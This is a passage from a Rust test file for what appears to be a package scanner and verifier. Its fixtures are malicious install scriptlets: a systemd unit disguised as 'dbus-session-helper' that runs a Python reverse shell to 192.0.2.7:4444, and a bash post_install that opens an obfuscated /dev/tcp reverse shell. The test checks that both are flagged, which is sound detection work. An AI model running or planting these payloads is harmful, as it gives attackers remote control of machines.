ExecStart=/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
  systemctl daemon-reload
  systemctl enable --now dbus-session-helper.service
}
"#,
        "persistence",
    ),
    (
        "bash",
        "post_install() {\n  h=/dev/tc; p=p/192.0.2.7/4444\n  bash -i >& $h$p 0>&1 &\n}\n",
        "reverse-shell",
    ),
];

#[test]
fn attack_scriptlets_are_errors_in_mc_scan_and_in_mc_verify_before_the_build() {
    let set = Set::new();
    let pkgs: Vec<Pkg<'_>> = ATTACKS
        .iter()
        .map(|(base, install, _)| Pkg {
            base,
            install,
            ..Pkg::default()
        })
        .collect();
    let folders: Vec<String> = pkgs.iter().map(|pkg| set.add(pkg)).collect();
    let cache = tempfile::tempdir().expect("tempdir");
    let mut args = vec!["--cache".to_owned(), cache.path().display().to_string()];
    args.extend(folders.iter().cloned());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let verified = run(&bin("mc-verify"), &args, "");
    assert_eq!(verified.code, 1, "{verified:?}");

    let packages = build(&set, &pkgs);
    let paths: Vec<String> = packages.iter().map(path_of).collect();
    let scanned = scan(&paths.iter().map(String::as_str).collect::<Vec<_>>(), "");
    assert_eq!(scanned.code, 1, "{scanned:?}");
    for (base, _, check) in ATTACKS {
        let error = |run: &Run, key: &str| {
            run.of_type("finding")
                .into_iter()
                .any(|f| f[key] == base && f["check"] == check && f["severity"] == "error")
        };
        assert!(
            error(&scanned, "package"),
            "mc-scan: {base} {check}: {:#?}",
            scanned.of_type("finding")
        );
        assert!(
            error(&verified, "base"),
            "mc-verify: {base} {check}: {:#?}",
            verified.of_type("finding")
        );
    }
    let python = |run: &Run, key: &str| {
        run.of_type("finding")
            .into_iter()
            .any(|f| f[key] == "service" && f["check"] == "reverse-shell")
    };
    assert!(
        python(&scanned, "package"),
        "the service's Python reverse shell"
    );
    assert!(
        python(&verified, "base"),
        "the service's Python reverse shell"
    );
}
